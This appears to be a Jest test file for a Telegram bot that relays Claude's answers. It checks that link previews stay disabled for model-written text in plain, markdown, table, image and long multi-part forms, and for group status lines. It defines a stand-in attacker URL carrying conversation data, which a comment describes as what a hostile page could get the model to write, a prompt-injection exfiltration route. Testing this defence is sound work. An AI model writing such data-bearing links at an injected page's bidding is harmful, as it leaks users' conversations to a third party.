import { expect, test } from '@jest/globals';
import { CHAT, eachInWorld, shown, start, world } from '../../fixture/each-test.ts';
import { ask } from '../../fixture/whole-chat.ts';

const GROUP = -1_002_000_000_001;
/** What a hostile page could have the model write. */
const LEAK = 'https://attacker.example/?d=what+was+said';
const OFF = { is_disabled: true };
const SHOWING = /^(?:send|edit).*(?:Message|Text|Draft)$/;

eachInWorld({
  claude: { deltaDelayMs: 20 },
  env: { TELEGRAM_ALLOWED_IDS: `${CHAT},${GROUP}`, TELEGRAM_ANSWER_ALL_IDS: '*' },
});

/** The calls that showed a text with the address, each with what it said about previews. */
function leaks(): { method: string; previews: unknown }[] {
  return world.telegram.calls
    .filter(({ method, params }) => SHOWING.test(method) && JSON.stringify(params).includes('attacker.example'))
    .map(({ method, params }) => ({ method, previews: params.link_preview_options }));
}

/** Plain text, a link behind words, a table, a picture, and a long answer in parts. */
const ANSWERS = [
  `Look: ${LEAK}`,
  `**Look** [here](${LEAK})`,
  `| a | b |\n|---|---|\n| [x](${LEAK}) | 1 |`,
  `![chart](${LEAK})`,
  `${`Look: ${LEAK}\n\n`.repeat(300)}`,
];

test('no text that the model wrote may be previewed, in whichever form, nor its drafts', async () => {
  await start({}, { draftsEveryMs: 20 });
  for (const [at, text] of ANSWERS.entries()) {
    world.claude.react(() => ({ do: 'answer', text }));
    const before = leaks().length;
    expect(await ask('Summarise this page', at + 1)).toMatchObject({ outcome: 'answered' });
    expect(leaks().length).toBeGreaterThan(before);
  }
  expect(leaks().filter(({ previews }) => JSON.stringify(previews) !== JSON.stringify(OFF))).toEqual([]);
});

test('the status line of a group, an answer that was cut, and what is repeated are not previewed either', async () => {
  world.claude.react(() => ({ do: 'answer', text: `Look: ${LEAK}`, stopReason: 'max_tokens', afterMs: 300 }));
  world.telegram.fail('sendMessage', { do: 'loseReply' }, 1, ({ text }) => String(text).includes('attacker'));
  await start({}, { statusAfterMs: 20, statusEveryMs: 20 });
  expect(await ask('Summarise this page', 1, GROUP, { fromId: CHAT })).toMatchObject({ outcome: 'answered' });
  expect(shown(GROUP).at(-1)).toContain(LEAK);
  const texts = world.telegram.calls.filter(({ method, params }) => SHOWING.test(method) && params.chat_id === GROUP);
  expect(new Set(texts.map(({ method }) => method))).toEqual(new Set(['sendMessage']));
  expect(texts.filter(({ params }) => JSON.stringify(params.link_preview_options) !== JSON.stringify(OFF))).toEqual([]);
});

test('TELEGRAM_LINK_PREVIEWS=true leaves previews to Telegram', async () => {
  world.claude.react(() => ({ do: 'answer', text: `Look: ${LEAK}` }));
  await start({ TELEGRAM_LINK_PREVIEWS: 'true' });
  expect(await ask('Summarise this page')).toMatchObject({ outcome: 'answered' });
  expect(leaks().length).toBeGreaterThan(0);
  expect(leaks().filter(({ previews }) => previews !== undefined)).toEqual([]);
});
